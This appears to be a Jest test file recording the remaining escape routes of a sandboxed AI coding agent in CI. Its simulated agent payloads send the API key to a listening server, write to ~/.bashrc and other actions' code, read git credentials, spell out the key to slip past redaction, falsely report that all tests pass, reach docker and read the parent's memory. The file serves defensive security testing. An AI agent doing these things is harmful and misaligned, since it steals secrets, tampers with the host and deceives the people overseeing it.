// What SECURITY.md says that an agent can still do. Who closes one of these holes finds the sentence to strike out here.

import * as fs from 'node:fs'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { join } from 'node:path'
import { expect, it } from '@jest/globals'
import {
  ASK_DOCKER,
  attack,
  fileOf,
  KEY,
  nodeBehind,
  onLinux,
  plant,
  sandbox,
  WISHES,
  WITHOUT_NAMESPACES,
  withDocker,
  withNamespaces,
} from './attack.ts'

onLinux.each(WISHES)('even so, with isolation %s, an agent', (isolation) => {
  it('has its key, and the network to send it through', async () => {
    const said: string[] = []
    const server = createServer((request, response) => {
      said.push(decodeURIComponent(request.url ?? ''))
      response.end()
    })
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
    const { port } = server.address() as AddressInfo
    const body = `await fetch('http://127.0.0.1:${port}/' + encodeURIComponent(process.env.CURSOR_API_KEY)); done()`
    await attack(body, { inputs: { 'api-key': KEY, isolation } })
    server.close()
    expect(said).toEqual([`/${KEY}`])
  })

  it('writes where the user of the runner may: his home, and without namespaces the code of other actions', async () => {
    const body = `
      fs.appendFileSync(path.join(process.env.HOME, '.bashrc'), 'evil')
      attempt(() => fs.mkdirSync(path.join(work, '_actions/other'), { recursive: true }))
      attempt(() => fs.writeFileSync(path.join(work, '_actions/other/post.js'), 'evil'))
      done()`
    const run = await attack(body, { inputs: { isolation } })
    expect(run.outputs.conclusion).toBe('success')
    expect(fs.readFileSync(join(run.dirs.home, '.bashrc'), 'utf8')).toBe('evil')
    const isWritten = fs.existsSync(join(run.dirs.work, '_actions/other/post.js'))
    expect(isWritten).toBe(run.outputs.isolation !== 'namespaces')
  })

  it('reads the credentials that an earlier step has left in the checkout', async () => {
    const workspace = sandbox()
    plant(workspace, { '.git/config': '[http]\nextraheader = AUTHORIZATION: basic abcdef' })
    const body = `note('config', fs.readFileSync('.git/config', 'utf8')); done()`
    const run = await attack(body, { workspace, inputs: { isolation } })
    expect(run.note('config')).toContain('AUTHORIZATION')
  })

  it('talks to services of the same user, by sockets that are files', async () => {
    const socket = join(sandbox(), 'service')
    const server = createServer((_, response) => response.end('at your service'))
    await new Promise<void>((resolve) => server.listen(socket, resolve))
    fs.chmodSync(socket, 0o777)
    const body = `
      const { request } = await import('node:http')
      note('said', await new Promise((resolve) => request({ socketPath: ${JSON.stringify(socket)} }, (response) => response.on('data', (data) => resolve(String(data)))).end()))
      done()`
    const run = await attack(body, { inputs: { isolation } })
    server.close()
    expect(run.note('said')).toBe('at your service')
  })

  it('shows its key in a form that no redaction knows', async () => {
    const run = await attack(
      `emit(init(), assistantFinal([...process.env.CURSOR_API_KEY].join(' ')), result('x'))`,
      {
        inputs: { 'api-key': KEY, isolation },
      },
    )
    expect(fileOf(run, 'result_file').replaceAll(' ', '')).toBe(KEY)
  })

  it('claims a success', async () => {
    const run = await attack(`emit(init(), assistantFinal('All tests pass.'), result('x'))`, {
      inputs: { isolation },
    })
    expect(run.outputs).toMatchObject({ conclusion: 'success', result: 'All tests pass.' })
  })
})

withNamespaces('where a machine gives no namespaces, an agent', () => {
  it('reaches docker, whatever its permissions', async () => {
    const run = await attack(ASK_DOCKER, {
      node: nodeBehind(`${withDocker()}; ${WITHOUT_NAMESPACES}`),
      inputs: { permissions: 'write' },
    })
    expect(run.outputs.isolation).toBe('no-new-privs')
    expect(run.note('said')).toContain('docker')
  })
})

onLinux('without namespaces, an agent', () => {
  it('ends the step as a failure by ending the action', async () => {
    const run = await attack(`process.kill(process.ppid, 'SIGKILL'); await forever()`, {
      inputs: { isolation: 'none' },
    })
    expect(run).toMatchObject({ conclusion: 'failure', signal: 'SIGKILL' })
  })

  it('reads the memory of the action, unless the kernel forbids it (yama)', async () => {
    const scope = '/proc/sys/kernel/yama/ptrace_scope'
    const isForbidden = fs.existsSync(scope) && fs.readFileSync(scope, 'utf8').trim() !== '0'
    const body = `note('memory', attempt(() => (fs.closeSync(fs.openSync('/proc/' + process.ppid + '/mem', 'r')), 'open')) ?? 'closed'); done()`
    const run = await attack(body, { inputs: { isolation: 'none' } })
    expect(run.note('memory')).toBe(isForbidden ? 'closed' : 'open')
  })
})
